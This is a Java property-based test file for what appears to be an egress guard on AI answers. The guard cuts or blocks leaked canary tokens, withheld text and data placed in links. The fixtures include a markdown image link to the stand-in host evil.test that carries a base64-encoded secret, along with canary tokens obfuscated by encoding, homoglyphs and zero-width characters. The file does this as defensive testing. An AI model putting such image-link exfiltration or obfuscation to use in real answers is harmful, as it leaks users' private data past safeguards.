package dev.weir.retrieve.egress;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;

/** What comes out does not depend on how an answer is cut, and is what the policy makes of what was found. */
class AnswerStreamTest {
    private static final EgressWorld WORLD = new EgressWorld();
    private static final List<EgressPolicy> POLICIES = List.of(
            EgressPolicy.standard(Set.of("docs.example.com")),
            EgressPolicy.strict(Set.of("docs.example.com")),
            EgressPolicy.observing(Set.of()),
            EgressPolicy.observing(Set.of())
                    .with(EgressCode.FOREIGN_CANARY, EgressAction.CUT)
                    .with(EgressCode.OWN_CANARY, EgressAction.BLOCK)
                    .with(EgressCode.FOREIGN_TEXT, EgressAction.CUT)
                    .with(EgressCode.FETCHED_LINK, EgressAction.CUT)
                    .with(EgressCode.DATA_IN_LINK, EgressAction.CUT));

    @Property
    void streamWhenCutAnyhowThenTheSameAsTheWhole(@ForAll long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        String answer = answer(random);
        EgressPolicy policy = POLICIES.get(random.nextInt(POLICIES.size()));
        ResponseGuard guard = WORLD.guard(policy);

        CheckedAnswer whole = guard.check(WORLD.scope, answer);
        AnswerStream stream = guard.stream(WORLD.scope);
        StringBuilder out = new StringBuilder();
        int longest = random.nextInt(1, 12);
        for (int at = 0; at < answer.length(); ) {
            int next = Math.min(answer.length(), at + random.nextInt(longest + 1));
            out.append(stream.accept(answer.substring(at, next)));
            assertThat(stream.held()).isLessThanOrEqualTo(ResponseGuard.LONGEST_HOLD_BACK);
            at = next;
        }
        out.append(stream.finish());

        assertThat(out).as("seed %s", seed).hasToString(whole.text());
        assertThat(stream.findings()).isEqualTo(whole.findings());
        assertThat(stream.isBlocked()).isEqualTo(whole.blocked());
        assertThat(whole.text()).isEqualTo(EgressWorld.render(policy, answer, whole.findings()));
        assertThat(whole.findings()).noneMatch(finding -> finding.code() == EgressCode.INTERNAL);
    }

    @Property
    void streamWhenItIsLetOutThenNoPartOfWhatIsCutEverIs(@ForAll long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        String token = WORLD.foreign(random.nextInt(EgressWorld.CANARIES)).token();
        AnswerStream stream = WORLD.guard(EgressPolicy.strict(Set.of())).stream(WORLD.scope);
        String answer = "The reference is " + token + ", and so on.";
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < answer.length(); i++) {
            out.append(stream.accept(answer.substring(i, i + 1)));
            assertThat(out.toString()).doesNotContain(token.substring(0, 1) + token.substring(1, 3));
        }
        out.append(stream.finish());
        assertThat(out).hasToString("The reference is " + EgressPolicy.BLOCK_MARKER);
    }

    @Example
    void holdBackWhenTextIsOrdinaryThenAWordOrTwo() {
        String text =
                "The reading room opens at nine in the morning [1]. It closes at five, except on Saturdays: then members"
                        + " may bring guests. Use `config.set(\"limit\", 20)` or see [the handbook](https://kb.test/hours) for more.\n\n"
                        + "| day | hours |\n|-----|-------|\n| Mon | 9-17 |\n";
        AnswerStream stream = WORLD.guard(EgressPolicy.strict(Set.of())).stream(WORLD.scope);
        long held = 0;
        for (int i = 0; i < text.length(); i++) {
            String out = stream.accept(text.substring(i, i + 1));
            assertThat(out).doesNotContain(EgressPolicy.CUT_MARKER);
            held += stream.held();
        }
        assertThat((double) held / text.length()).isLessThan(18);
    }

    @Example
    void holdBackWhenFloodedThenBounded() {
        String word = WORLD.foreign(0).token().substring(0, 6);
        List<String> floods = List.of(
                "A".repeat(20_000),
                "![x](https://evil.test/" + "a".repeat(20_000),
                "\u200b".repeat(20_000),
                (word.charAt(0) + ".".repeat(Folding.MAX_GAP)).repeat(500),
                String.join(
                        ".".repeat(Folding.MAX_GAP),
                        WORLD.foreign(0).token().replace("-", "").split("", -1)),
                String.join(
                        "\n".repeat(Folding.MAX_GAP),
                        EgressWorld.WITHHELD.replace(" ", "").split("", -1)),
                "6d ".repeat(8_000),
                "%41".repeat(8_000),
                "\u0301".repeat(20_000),
                "[".repeat(5_000) + "](".repeat(5_000),
                word.repeat(2_000));
        for (String flood : floods) {
            AnswerStream stream = WORLD.guard(EgressPolicy.observing(Set.of())).stream(WORLD.scope);
            int out = 0;
            for (int i = 0; i < flood.length(); i++) {
                out += stream.accept(flood.substring(i, i + 1)).length();
                assertThat(stream.held()).isLessThanOrEqualTo(ResponseGuard.LONGEST_HOLD_BACK);
                assertThat(out + stream.held()).isEqualTo(i + 1);
            }
            out += stream.finish().length();
            assertThat(out).isEqualTo(flood.length());
        }
    }

    private static String answer(SplittableRandom random) {
        StringBuilder answer = new StringBuilder();
        int parts = random.nextInt(1, 8);
        for (int i = 0; i < parts; i++) {
            answer.append(part(random)).append(List.of(" ", "", "\n", ". ", "-").get(random.nextInt(5)));
        }
        return answer.toString();
    }

    private static String part(SplittableRandom random) {
        String own = WORLD.own(random.nextInt(EgressWorld.CANARIES)).token();
        String foreign = WORLD.foreign(random.nextInt(EgressWorld.CANARIES)).token();
        int from = random.nextInt(60);
        List<String> parts = new ArrayList<>(List.of(
                "The reading room opens at nine [1].",
                own,
                own.replace('-', ' '),
                foreign,
                foreign.substring(0, random.nextInt(foreign.length())),
                new StringBuilder(foreign).reverse().toString(),
                foreign.replace("a", "%61").replace("e", "\u0435"),
                Base64.getEncoder().encodeToString(foreign.getBytes(StandardCharsets.UTF_8)),
                EgressWorld.WITHHELD.substring(from, from + random.nextInt(120)),
                EgressWorld.GIVEN.substring(from),
                "![x](https://evil.test/p.png?d="
                        + Base64.getUrlEncoder().encodeToString("hunter22 is the word".getBytes(StandardCharsets.UTF_8))
                        + ")",
                "![x](https://cdn.test/p.png)",
                "[x](https://docs.example.com/a) https://kb.test/b",
                "\ud83d\ude00 caf\u00e9 \u4e2d\u6587 \u0435\u0301\u200b",
                "```\nint a = b[i](x);\n```",
                "A".repeat(random.nextInt(200)),
                "\u200b.".repeat(random.nextInt(40))));
        return parts.get(random.nextInt(parts.size()));
    }
}
